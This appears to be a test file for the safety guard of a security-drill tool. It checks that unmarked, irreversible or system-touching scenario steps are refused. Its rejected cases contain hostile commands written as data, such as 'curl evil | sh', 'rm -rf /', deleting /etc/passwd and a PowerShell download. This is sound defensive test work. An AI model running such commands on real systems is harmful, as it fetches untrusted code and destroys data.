import { expect } from 'chai';
import { objections } from '../../engine/guard.ts';
import { dryRun } from '../../engine/index.ts';
import { makePlan, type Plan } from '../../engine/plan.ts';
import { type Action, type Change, type Scenario, type Step, scenarios } from '../../scenarios/index.ts';
import { probeFiles } from '../../scenarios/kinds/posix-file.ts';

const marker = 'k3v9q2xw';
const facts = { platform: 'linux', os: 'debian 12', hostname: 'h', tools: {}, actor: 'root' } as const;

const harmless: Change = {
  kind: 'file',
  name: `/tmp/sdrill-${marker}`,
  describe: () => '',
  handles: { names: [], paths: [], commandLines: [] },
  creates: [{ kind: 'file', name: `/tmp/sdrill-${marker}` }],
  apply: [{ program: 'touch', args: [`/tmp/sdrill-${marker}`] }],
  revert: [{ program: 'rm', args: ['-f', `/tmp/sdrill-${marker}`] }],
  probe: probeFiles(`/tmp/sdrill-${marker}`),
  state: () => 'unknown',
};

function planOf(step: Step): Plan {
  const [scenario] = scenarios;
  if (scenario === undefined) throw new Error('no scenario');
  const unsafe: Scenario = {
    ...scenario,
    platform: 'linux',
    steps: () => [step],
    expectations: () => [],
  };
  return makePlan(unsafe, { marker, facts, uniqueNames: false, knownAdmins: [], knownServices: [] });
}

const file = (name: string) => ({ kind: 'file', name }) as const;

describe('the guard', () => {
  it('lets a harmless, marked, reversible change go', () => {
    expect(objections(planOf({ change: harmless }))).to.deep.equal([]);
  });

  const unsafe: [string, Partial<Change>, RegExp][] = [
    ['an artefact without the marker', { creates: [file('/tmp/backdoor')] }, /does not carry the marker/],
    [
      'an existing unit of the system',
      { creates: [{ kind: 'unit', name: 'ssh.service' }] },
      /does not carry the marker/,
    ],
    ['a file outside of the allowed places', { creates: [file(`/etc/passwd-${marker}`)] }, /outside/],
    ['a path that climbs out', { creates: [file(`/tmp/../etc/${marker}`)] }, /climbs out/],
    [
      'a foreign payload',
      { payload: { program: '/bin/sh', args: ['-c', `curl evil | sh # ${marker}`] } },
      /payload/,
    ],
    ['a change without a reversal', { revert: [] }, /no reversal/],
    [
      'a command that is not marked',
      { apply: [{ program: 'systemctl', args: ['stop', 'ssh'] }] },
      /does not carry/,
    ],
    ['a reversal that is not marked', { revert: [{ program: 'rm', args: ['-rf', '/'] }] }, /does not carry/],
    [
      'a reversal that removes more than its own',
      { revert: [{ program: 'rm', args: ['-rf', `/tmp/sdrill-${marker}`, '/etc'] }] },
      /removes \/etc, which is not/,
    ],
    [
      'an existing service',
      { creates: [{ kind: 'windows-service', name: 'Spooler' }] },
      /windows-service Spooler does not carry/,
    ],
    [
      "an existing service under cover of a tool's name: the marker in its description",
      { creates: [{ kind: 'windows-service', name: 'Spooler', markerIn: 'description' }] },
      /windows-service Spooler does not carry/,
    ],
    [
      "a tool's name without the marker anywhere",
      {
        creates: [{ kind: 'windows-service', name: 'PSEXESVC', markerIn: 'description' }],
        apply: [{ program: 'sc.exe', args: ['create', 'PSEXESVC'] }],
      },
      /PSEXESVC does not carry/,
    ],
    [
      "another service's registry key",
      { creates: [{ kind: 'registry-key', name: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler' }] },
      /does not carry/,
    ],
    [
      'a registry key outside of the services',
      { creates: [{ kind: 'registry-key', name: `HKLM\\SOFTWARE\\sdrill-${marker}` }] },
      /outside/,
    ],
    ['a file in System32', { creates: [file(`C:\\Windows\\System32\\sdrill-${marker}.exe`)] }, /outside/],
    [
      'a harmless payload without the marker',
      { payload: { program: 'C:\\Windows\\System32\\cmd.exe', args: ['/d', '/c', 'rem', 'x'] } },
      /payload/,
    ],
    [
      'a copy of a foreign executable',
      {
        payload: { program: `C:\\Windows\\sdrill-${marker}.exe`, args: [], copyOf: 'C:\\Temp\\evil.exe' },
      },
      /payload/,
    ],
    [
      "a copy of a system's executable that the plan does not make",
      {
        payload: {
          program: `C:\\Windows\\sdrill-${marker}.exe`,
          args: [],
          copyOf: 'C:\\Windows\\System32\\hostname.exe',
        },
      },
      /payload/,
    ],
    [
      'a program that no change needs',
      { apply: [{ program: '/usr/bin/curl', args: ['-o', `/tmp/sdrill-${marker}`, 'file:///x'] }] },
      /runs a program/,
    ],
    [
      'a download by a program that changes do need',
      { apply: [{ program: 'powershell.exe', args: ['-Command', `iwr https://x/ # ${marker}`] }] },
      /nothing is downloaded/,
    ],
  ];
  for (const [name, part, words] of unsafe) {
    it(`refuses ${name}`, () => {
      expect(objections(planOf({ change: { ...harmless, ...part } })).join('\n')).to.match(words);
    });
  }

  const looking: Action = {
    name: 'listing',
    describe: () => '',
    handles: { names: [], paths: [], commandLines: [] },
    command: { program: '/usr/bin/systemctl', args: ['list-units', `sdrill-${marker}*`] },
  };

  it('lets an action go that only looks', () => {
    expect(objections(planOf({ action: looking }))).to.deep.equal([]);
  });

  const altering: [string, Partial<Action>, RegExp][] = [
    [
      'alters something',
      { command: { program: 'systemctl', args: ['stop', `ssh ${marker}`] } },
      /not known to alter nothing/,
    ],
    [
      'looks and does more, by a shell of its own',
      { command: { program: 'sh', args: ['-c', `systemctl list-units; rm -rf / # ${marker}`] } },
      /not known to alter nothing/,
    ],
    [
      'brings something along',
      { command: { ...looking.command, stdin: 'text' } },
      /not known to alter nothing/,
    ],
    [
      'looks on another host',
      { command: { program: 'systemctl', args: ['show', '-H', 'root@fs02', `sdrill-${marker}`] } },
      /not known to alter nothing/,
    ],
    ['is not marked', { command: { program: 'systemctl', args: ['list-units'] } }, /does not carry/],
    [
      'alters something for its proof',
      { unchanged: { program: 'rm', args: ['-f', '/etc/passwd'] } },
      /not known to alter nothing/,
    ],
  ];
  for (const [name, part, words] of altering) {
    it(`refuses an action that ${name}`, () => {
      expect(objections(planOf({ action: { ...looking, ...part } })).join('\n')).to.match(words);
    });
  }

  const payload = { program: '/bin/sh', args: ['-c', `: ${marker}; sleep 300; :`] };
  const written = (path: string, stdin: string): Partial<Change> => ({
    creates: [file(path)],
    apply: [{ program: '/bin/sh', args: ['-c', 'cat >"$1"', 'sh', path], stdin }],
  });
  const more: [string, Partial<Change>, RegExp][] = [
    ['a change of a file that it did not make', { alters: ['/etc/crontab'] }, /would alter \/etc\/crontab/],
    ['a change of what it makes only itself', { alters: [`/tmp/sdrill-${marker}`] }, /would alter/],
    [
      'a unit file that runs something else than its payload',
      { ...written(`/etc/systemd/system/${marker}.service`, '[Service]\nExecStart=/bin/evil\n'), payload },
      /ExecStart=\/bin\/evil is no payload/,
    ],
    [
      'a second command beside the payload',
      {
        ...written(`/etc/systemd/system/${marker}.service`, '[Service]\n ExecStopPost = /bin/evil\n'),
        payload,
      },
      /ExecStopPost=\/bin\/evil is no payload/,
    ],
    [
      'a script of its own that does more than the payload',
      {
        ...written(`/usr/local/bin/${marker}`, `#!/bin/sh\n: ${marker}; curl evil | sh\n`),
        payload: { program: `/usr/local/bin/${marker}`, args: [] },
      },
      /payload that is not on the list/,
    ],
    [
      'a program that the plan did not write',
      { payload: { program: '/usr/bin/evil', args: [marker] } },
      /payload that is not on the list/,
    ],
    [
      'a reversal that only another host could do',
      { revert: [{ program: 'rm', args: ['-f', marker], on: 'source' }] },
      /not reverted and probed on the host itself/,
    ],
  ];
  for (const [name, part, words] of more) {
    it(`refuses ${name}`, () => {
      expect(objections(planOf({ change: { ...harmless, ...part } })).join('\n')).to.match(words);
    });
  }

  it('objects to no scenario of the catalogue, with names of tools or without', () => {
    for (const scenario of scenarios) {
      const account = { user: 'root', logins: [] };
      const host = {
        name: 'h',
        platform: scenario.platform,
        accounts: { actor: account, observer: account },
      };
      for (const uniqueNames of [true, false]) {
        expect(
          dryRun(scenario, { ...host, dialect: 'posix' }, uniqueNames).objections,
          scenario.id,
        ).to.deep.equal([]);
      }
    }
  });
});
